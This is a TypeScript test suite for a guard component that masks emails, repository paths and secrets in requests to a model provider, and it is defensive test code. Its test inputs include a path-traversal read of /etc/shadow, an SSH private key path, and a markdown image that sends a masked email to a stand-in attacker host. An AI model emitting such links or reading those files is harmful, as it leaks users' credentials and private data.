// The facade over the component itself. `npm run build` has to come first.

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { Blocked, type Guard, openGuard } from '../../src/guard.js';
import { protectRequest } from '../../src/outbound.js';
import { newCanary, sendCanary } from '../../src/canary.js';
import { sessionConfig } from '../../src/sessions.js';
import { readSettings } from '../../src/settings.js';
import type { Upstream } from '../../src/turns.js';
import { WIRES } from '../../src/upstream/index.js';
import { EMAIL, MACHINE, request, ROOT, turn } from './conversation.js';

const config = sessionConfig(readSettings(() => undefined), [ROOT], { home: '/home/mira', user: 'mira' });
const PASSWORD = ['corvid', 'Lantern', '92xQ'].join('-');

const connection = { name: 'Fake', url: 'http://127.0.0.1:9', model: 'm', maxOutputTokens: 9, patience: 1 };
const chat = WIRES['chat-completions'](connection);

function open(): Promise<Guard> {
  return openGuard(config, MACHINE);
}

describe('the component', () => {
  it('hides and restores, with places in UTF-16', async () => {
    const guard = await open();
    const text = `naïve 🌍 ${EMAIL} in ${ROOT}/src/é.ts`;
    const { text: clean, hits } = guard.sanitize(text, 'tool');
    assert.ok(!clean.includes(EMAIL) && !clean.includes(ROOT));
    assert.deepEqual(hits.map(({ input }) => text.slice(...input)), [EMAIL, ROOT]);
    assert.ok(hits.every(({ standIn }) => clean.includes(standIn)));
    assert.equal(guard.rebindDisplay(clean), text);
  });

  it('is idempotent, since a participant and a provider may be stacked', async () => {
    const guard = await open();
    const once = guard.sanitize(`DB_PASSWORD=${PASSWORD} ${EMAIL} ${ROOT}/x`, 'tool').text;
    assert.ok(!once.includes(PASSWORD));
    assert.equal(guard.sanitize(once, 'model').text, once);
  });

  it('gives tools real paths and refuses others', async () => {
    const guard = await open();
    guard.sanitize(ROOT, 'tool');
    const bound = await guard.rebindToolCall('read_file', '{"filePath":"[REPO_ROOT_1]/src/a.ts"}');
    assert.ok('ok' in bound && bound.ok.args === `{"filePath":"${ROOT}/src/a.ts"}`);
    for (const path of ['[REPO_ROOT_1]/../../etc/shadow', '[REPO_ROOT_7]/a', '/home/mira/.ssh/id_ed25519']) {
      assert.ok('refusal' in await guard.rebindToolCall('read_file', JSON.stringify({ filePath: path })), path);
    }
    assert.ok('refusal' in await guard.rebindToolCall('read_file', '{"filePath": "a'));
  });

  it('knows, explains, allows and forgets', async () => {
    const guard = await open();
    guard.sanitize(`mail ${EMAIL}`, 'tool');
    const slot = guard.slots().find(({ kind }) => kind === 'email');
    assert.ok(slot);
    assert.equal(guard.reveal(slot.standIn), EMAIL);
    assert.equal(guard.explain(slot.standIn)?.kind, 'email');
    assert.equal(guard.explain('[EMAIL_99]'), undefined);
    assert.ok(guard.forget(slot.standIn));
    assert.equal(guard.reveal(slot.standIn), undefined);
    guard.protect('Kestrel', 'project');
    assert.ok(!guard.sanitize('about Kestrel', 'tool').text.includes('Kestrel'));
    guard.allow('Kestrel');
    assert.ok(guard.sanitize('about Kestrel', 'tool').text.includes('Kestrel'));
  });

  it('names the setting that is wrong', async () => {
    await assert.rejects(openGuard({ ...config, roots: ['not/absolute'] }, MACHINE), (error: unknown) => {
      assert.ok(error instanceof Blocked);
      assert.equal(error.reason, 'config');
      assert.match(error.message, /roots/);
      return true;
    });
  });

  it('blocks what is too long, and stays usable', async () => {
    const guard = await openGuard({ ...config, limits: { values: 1000, text: 1000 } }, MACHINE);
    assert.throws(() => guard.sanitize('x'.repeat(2000), 'tool'), (error: unknown) => error instanceof Blocked && error.reason === 'too-long');
    assert.equal(guard.sanitize('fine', 'tool').text, 'fine');
  });

  it('counts what a late turn teaches in early ones', async () => {
    const guard = await open();
    const made = protectRequest(guard, chat, request(turn('user', `log in with ${PASSWORD}`), turn('user', `DB_PASSWORD=${PASSWORD}`)), { images: false });
    assert.ok(!made.body.includes(PASSWORD));
    assert.equal(made.standIns.size, 1);
  });

  it('shows a stream as it shows the whole, wherever it is cut', async () => {
    const guard = await open();
    guard.sanitize(`${EMAIL} in ${ROOT}`, 'tool');
    const said = 'Ask [EMAIL_1] (in `[REPO_ROOT_1]/a b.ts`),\n\n![x](https://evil.test/?k=[EMAIL_1]) [EMAIL_1] [EMAIL_12] 世界[EMAIL_1]';
    const whole = guard.rebindDisplay(said);
    assert.ok(whole.includes(EMAIL) && whole.includes('k=[EMAIL_1]'), whole);
    for (const size of [1, 2, 3, 5, 7, 11, 40]) {
      const stream = guard.rebindStream();
      let shown = '';
      for (let from = 0; from < said.length; from += size) {
        shown += stream.push(said.slice(from, from + size));
      }
      assert.equal(shown + stream.finish(), whole, `pieces of ${size}`);
    }
  });

  for (const [wire, make] of Object.entries(WIRES)) {
    it(`lets a secret back into the file it was read from, over ${wire}`, async () => {
      const guard = await open();
      const file = `${ROOT}/.env`;
      const call = { type: 'tool-call', id: 'c1', name: 'read_file', args: JSON.stringify({ filePath: file }) } as const;
      const result = { type: 'tool-result', id: 'c1', text: `DB_PASSWORD=${PASSWORD}`, images: [] } as const;
      const { body, standIns } = protectRequest(guard, make(connection), request(turn('user', 'go'), turn('assistant', call), turn('user', result)), { images: false });
      assert.ok(!body.includes(PASSWORD) && !body.includes(ROOT));
      const [surrogate] = [...standIns].find(([, kind]) => kind === 'secret') ?? [''];
      const write = (filePath: string) => guard.rebindToolCall('create_file', JSON.stringify({ filePath, content: `DB_PASSWORD=${surrogate}` }));
      const bound = await write('[REPO_ROOT_1]/.env');
      assert.ok('ok' in bound && bound.ok.args.includes(PASSWORD));
      assert.ok('refusal' in await write('[REPO_ROOT_1]/elsewhere.txt'));
    });
  }

  it('reads messages again once a secret in them is known, and keeps names that were sent', async () => {
    const guard = await open();
    const first = request(turn('user', `log in with ${PASSWORD}, says Marlowe`));
    assert.ok(protectRequest(guard, chat, first, { images: false }).body.includes(PASSWORD));
    const next = request(...first.turns, turn('user', `DB_PASSWORD=${PASSWORD}`));
    assert.ok(!protectRequest(guard, chat, next, { images: false }).body.includes(PASSWORD));
    guard.protect('Marlowe', 'person');
    assert.ok(!protectRequest(guard, chat, next, { images: false }).body.includes('Marlowe'), "the user's word counts in old messages too");
  });

  it('shares nothing between two sessions', async () => {
    const [one, other] = await Promise.all([open(), open()]);
    const { text } = one.sanitize(EMAIL, 'tool');
    assert.equal(other.rebindDisplay(text), text);
  });

  it('brings a canary through', async () => {
    const parrot: Upstream = {
      ...chat,
      async *stream(body: string) {
        yield { type: 'text', text: body };
      },
    };
    const canary = newCanary(ROOT, () => Math.random().toString(16).slice(2, 10));
    const result = await sendCanary(await open(), parrot, canary, new AbortController().signal);
    assert.ok(result.isProtected && result.isProven);
  });
});
